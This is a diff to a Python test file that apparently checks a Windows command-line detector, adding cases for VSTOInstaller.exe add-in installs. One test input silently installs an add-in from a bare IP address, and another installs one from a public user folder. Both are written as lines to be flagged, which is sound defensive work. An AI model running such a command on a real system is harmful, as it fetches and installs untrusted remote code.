@@ -1,4 +1,4 @@
-"""AppInstaller: packages from the web, by their address."""
+"""AppInstaller and VSTOInstaller: packages and add-ins from the web, by their address."""
 
 from __future__ import annotations
 
@@ -27,3 +27,19 @@ def test_where_a_package_comes_from(line: str, indicators: list[str]) -> None:
     report = judged_windows(line)
     assert ids(report) == indicators
     assert report.tool == "appinstaller" * bool(indicators)
+
+
+@pytest.mark.parametrize(
+    ("line", "indicators"),
+    [
+        ("VSTOInstaller.exe /s /i http://203.0.113.9/a.vsto", ["application_from_nobody", "input_bare_address"]),
+        ("VSTOInstaller.exe /install C:\\Users\\Public\\a.vsto", ["application_from_nobody"]),
+        ("VSTOInstaller.exe /i https://addins.contoso.example/a.vsto", []),
+        ("VSTOInstaller.exe /u http://203.0.113.9/a.vsto", []),
+        ("VSTOInstaller.exe", []),
+    ],
+)
+def test_where_an_add_in_comes_from(line: str, indicators: list[str]) -> None:
+    report = judged_windows(line)
+    assert ids(report) == indicators
+    assert report.tool == "vstoinstaller" * bool(indicators)
